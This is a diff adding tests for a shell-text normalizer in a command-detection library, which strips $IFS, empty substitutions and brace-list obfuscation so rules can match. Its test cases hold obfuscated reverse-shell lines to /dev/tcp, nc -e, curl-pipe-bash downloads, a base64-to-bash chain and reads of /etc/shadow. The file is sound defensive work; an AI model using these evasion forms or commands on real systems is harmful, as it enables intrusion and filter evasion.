@@ -1,13 +1,18 @@
 // The rule functions that undo what hides a literal from a rule (src/detection/shell-text.ts): visible_text and
 // invisible_characters (what a terminal does not draw in a name), shell_unquote (bash's quoting in a command
-// line). Each is checked on its own and through SQL as a rule calls it, and on 1 MB of the input that costs
-// it most, by its output (its time is in bench/shell-text.bench.ts).
+// line), shell_normalize (the expansions that split or space out words, too). Each is checked on its own and
+// through SQL as a rule calls it, and on 1 MB of the input that costs it most, by its output (its time is in
+// bench/shell-text.bench.ts); shell_normalize's new forms also by how its time grows, and against bash itself.
+import {spawnSync} from 'node:child_process';
+
+import fc from 'fast-check';
 import type {Database} from 'sql.js';
 import {afterAll, beforeAll, describe, expect, it} from 'vitest';
 
-import {decodeStoredText, invisibleCharacters, shellUnquote, visibleText} from '../../src/detection/shell-text.js';
+import {decodeStoredText, invisibleCharacters, shellNormalize, shellUnquote, visibleText} from '../../src/detection/shell-text.js';
 import {registerUdfs} from '../../src/detection/udfs.js';
 import {loadSqlJs} from '../../src/storage/sqljs.js';
+import {expectLinearTime} from '../helpers/linear-time.js';
 
 const MB = 1024 * 1024;
 
@@ -131,6 +136,153 @@ describe('shell_unquote', () => {
   });
 });
 
+describe('shell_normalize', () => {
+  const cases: [string, string][] = [
+    // $IFS in its forms: one blank
+    ['bash${IFS}-i>&/dev/tcp/10.0.0.5/4444', 'bash -i>&/dev/tcp/10.0.0.5/4444'],
+    ['cat$IFS/etc/shadow', 'cat /etc/shadow'],
+    ['cat${IFS%??}/etc/shadow', 'cat /etc/shadow'],
+    ['cat$IFS$9/etc/passwd', 'cat /etc/passwd'],
+    ['cat${IFS:0:1}/etc/passwd', 'cat /etc/passwd'],
+    // Positional parameters, $@, $* and empty substitutions: nothing
+    ['c$@url -s x', 'curl -s x'],
+    ['cu$()rl x', 'curl x'],
+    ['cu$( )rl x', 'curl x'],
+    ['w``get x', 'wget x'],
+    ['n$1c -e sh', 'nc -e sh'],
+    ['/dev/t${@}cp/1/2', '/dev/tcp/1/2'],
+    ['ba$*sh', 'bash'],
+    ['"c$@url"', 'curl'],
+    ['"cu$()rl"', 'curl'],
+    // An unset variable inside a word: nothing when a letter or digit follows it
+    ['n${x}c -e sh', 'nc -e sh'],
+    ['/dev/${x}tcp/1/2', '/dev/tcp/1/2'],
+    ['c$u\\url', 'curl'],
+    ["w$u''get", 'wget'],
+    ['${x}nc -e sh', 'nc -e sh'],
+    ['c${a}${b}url', 'curl'],
+    ['c${a}$@${b}url', 'curl'],
+    // ... and as written otherwise: an admin's variables
+    ['cp $HOME/x $BACKUP/', 'cp $HOME/x $BACKUP/'],
+    ['tar czf /srv/$APP/backup-${DATE}.tgz --dir=$D ${NAME}.log x$N', 'tar czf /srv/$APP/backup-${DATE}.tgz --dir=$D ${NAME}.log x$N'],
+    ['v${MAJOR}${MINOR} file_${i}_x $A:$B', 'v${MAJOR}${MINOR} file_${i}_x $A:$B'],
+    // Brace lists that start a word: their elements
+    ['{bash,-i}', 'bash -i'],
+    ['{curl,-fsSL,http://203.0.113.9/a.sh}|bash', 'curl -fsSL http://203.0.113.9/a.sh|bash'],
+    ['{echo,c2xlZXAK}|{base64,-d}|{bash,-i}', 'echo c2xlZXAK|base64 -d|bash -i'],
+    ['{{bash,-i},x}', 'bash -i x'],
+    ['${IFS}{nc,-e,/bin/sh,1,2}', ' nc -e /bin/sh 1 2'],
+    ["{b''ash,-i}", 'bash -i'],
+    ['{bash,-i}${IFS}>&${IFS}/dev/t$()cp/1/2', 'bash -i >& /dev/tcp/1/2'],
+    ['for f in {a,b,c}.txt; do x; done', 'for f in a b c.txt; do x; done'],
+    // ... and literal otherwise: no comma, a group, find's {}, a list inside a word, a sequence, unclosed
+    ['echo {a} {} {1..5} x{a,b}', 'echo {a} {} {1..5} x{a,b}'],
+    ['{ echo a,b; }', '{ echo a,b; }'],
+    ['find . -exec rm {} \\;', 'find . -exec rm {} ;'],
+    ['{a,b', '{a,b'],
+    ['a,b}', 'a,b}'],
+    // Not undone: values the shell has, operator forms, an unclosed ${, arithmetic, what is quoted with '…'
+    ['echo $$ $? $! $- $# $0', 'echo $$ $? $! $- $# $0'],
+    ['${x:-curl} ${#IFS} $IFSx ${', '${x:-curl} ${#IFS} $IFSx ${'],
+    ['$(( 1 + 2 )) $(id)', '$(( 1 + 2 )) $(id)'],
+    ["'${IFS}c$@url'", '${IFS}c$@url'],
+    ["$'c$@url'", 'c$@url'],
+    // A blank from $IFS inside "…" is a blank in the phrase: it keeps its quote
+    ['"a${IFS}b"', '"a b'],
+    // Quoting is removed as shell_unquote removes it
+    ['bash -i >& /dev/t""cp/1/2 0>&1', 'bash -i >& /dev/tcp/1/2 0>&1'],
+    ["grep -e 'nc -e' log", "grep -e 'nc -e log"],
+    ['', ''],
+  ];
+  it.each(cases)('%j is %j', (text, normalized) => {
+    expect(shellNormalize(text)).toBe(normalized);
+  });
+
+  it('reads a JSON argv one argument at a time', () => {
+    expect(shellNormalize(JSON.stringify(['bash', '-c', '{bash,-i}>&/dev/t$@cp/1/2 0>&1']))).toBe('bash -c bash -i>&/dev/tcp/1/2 0>&1');
+    // A brace opened in one argument is not closed by another
+    expect(shellNormalize(JSON.stringify(['{a,b', 'c}']))).toBe('{a,b c}');
+  });
+
+  it('agrees with bash on the words these forms make, with no arguments and the variables unset', () => {
+    const scripts = [
+      'c$@url${IFS}-fsSL${IFS}http://203.0.113.9/a.sh',
+      '{curl,-fsSL,http://203.0.113.9/a.sh}',
+      'cat$IFS$9/etc/shadow',
+      'cat${IFS%??}/etc/shadow',
+      'n${__de_x}c -e /bin/sh 10.0.0.5 4444',
+      '/dev/t$()cp/10.0.0.5/4444 w``get c$__de_u\\url',
+      "{b''ash,-i} {{nc,-e},/bin/sh}",
+      'cp $HOME/x ${HOME}/y',
+    ];
+    // One bash for all: printf writes each word bash makes on a line of its own, a line `--` ends a script's
+    // words. HOME is set, the other variables are not.
+    const run = spawnSync('/bin/bash', ['-c', scripts.map((script) => `printf '%s\\n' ${script}; echo --`).join('\n')], {
+      env: {PATH: '/usr/bin:/bin', HOME: '/root'},
+      encoding: 'utf8',
+    });
+    expect(run.status, run.stderr).toBe(0);
+    const made = run.stdout.split('--\n').slice(0, -1);
+    expect(made).toHaveLength(scripts.length);
+    for (const [index, script] of scripts.entries()) {
+      const words = (made[index] ?? '').split('\n').filter((word) => word !== '');
+      const normalized = shellNormalize(script).replaceAll('${HOME}', '/root').replaceAll('$HOME', '/root');
+      expect(
+        normalized.split(' ').filter((word) => word !== ''),
+        script,
+      ).toEqual(words);
+    }
+  });
+
+  it('is shell_unquote on a text with no $, backquote or brace, and never longer than its input', () => {
+    const units = ['a', 'b', ' ', "'", '"', '\\', '$', '`', '{', '}', ',', '(', ')', '#', '\n', 'I', 'F', 'S', '@', '1', '%', '?'];
+    fc.assert(
+      fc.property(fc.string({unit: fc.constantFrom(...units), maxLength: 40}), (text) => {
+        const normalized = shellNormalize(text);
+        expect(normalized.length).toBeLessThanOrEqual(text.length);
+        if (!/[$`{]/.test(text)) expect(normalized).toBe(shellUnquote(text));
+      }),
+      {numRuns: 2000},
+    );
+  });
+
+  it('works through 1 MB of each new form in one pass', () => {
+    same(shellNormalize('${IFS}'.repeat(MB / 6)), ' '.repeat(MB / 6));
+    same(shellNormalize('c$@'.repeat(MB / 3)), 'c'.repeat(MB / 3));
+    same(shellNormalize('c${x}'.repeat(MB / 5) + 'x'), 'c'.repeat(MB / 5) + 'x');
+    same(shellNormalize('${x}'.repeat(MB / 4) + 'x'), 'x');
+    same(shellNormalize('{'.repeat(MB / 2) + '}'.repeat(MB / 2)), '{'.repeat(MB / 2) + '}'.repeat(MB / 2));
+    same(shellNormalize('{a,'.repeat(MB / 4) + '}'.repeat(MB / 4)), 'a '.repeat(MB / 4));
+    // Hostile: an operator form never closed, substitutions never closed, names never closed
+    same(shellNormalize('${IFS%'.repeat(MB / 6)), '${IFS%'.repeat(MB / 6));
+    same(shellNormalize('$( '.repeat(MB / 3)), '$( '.repeat(MB / 3));
+    // (two backquotes with a blank between are an empty substitution: one blank is left of each four characters)
+    same(shellNormalize('` '.repeat(MB / 2) + 'x'), ' '.repeat(MB / 4) + 'x');
+    same(shellNormalize('`' + ' '.repeat(MB) + 'x'), '`' + ' '.repeat(MB) + 'x');
+    same(shellNormalize('${aa'.repeat(MB / 4)), '${aa'.repeat(MB / 4));
+  });
+
+  it('takes time linear in the text on hostile repetitions: ${IFS}, {{{{ nesting, open ${IFS% and $( forms, glued variables', () => {
+    const hostile: ((n: number) => string)[] = [
+      (n) => '${IFS}'.repeat(n),
+      (n) => '{'.repeat(n) + '}'.repeat(n),
+      (n) => '{a,'.repeat(n) + '}'.repeat(n),
+      (n) => '{,'.repeat(n),
+      (n) => '${IFS%'.repeat(n),
+      (n) => '$( '.repeat(n),
+      (n) => '`' + ' '.repeat(n) + '`x' + '`'.repeat(n),
+      (n) => 'c${x}'.repeat(n),
+      (n) => '"$@${'.repeat(n),
+    ];
+    for (const make of hostile) {
+      expectLinearTime((n) => {
+        const text = make(n);
+        return () => shellNormalize(text);
+      }, 20_000);
+    }
+  });
+});
+
 describe('the functions in a rule database', () => {
   let db: Database;
   beforeAll(async () => {
@@ -148,6 +300,9 @@ describe('the functions in a rule database', () => {
     expect(one(`SELECT invisible_characters('sleep')`)).toBe(0);
     expect(one(`SELECT shell_unquote('/dev/t""cp')`)).toBe('/dev/tcp');
     expect(one(`SELECT shell_unquote(json_array('''', '-c', 'n''''c -e sh'))`)).toBe(' -c nc -e sh');
-    expect(one('SELECT visible_text(NULL) IS NULL AND invisible_characters(NULL) IS NULL AND shell_unquote(NULL) IS NULL')).toBe(1);
+    expect(one("SELECT shell_normalize(json_array('sh', '-c', '{nc,-e,sh}${IFS}c$@url'))")).toBe('sh -c nc -e sh curl');
+    expect(
+      one('SELECT visible_text(NULL) IS NULL AND invisible_characters(NULL) IS NULL AND shell_unquote(NULL) IS NULL AND shell_normalize(NULL) IS NULL'),
+    ).toBe(1);
   });
 });
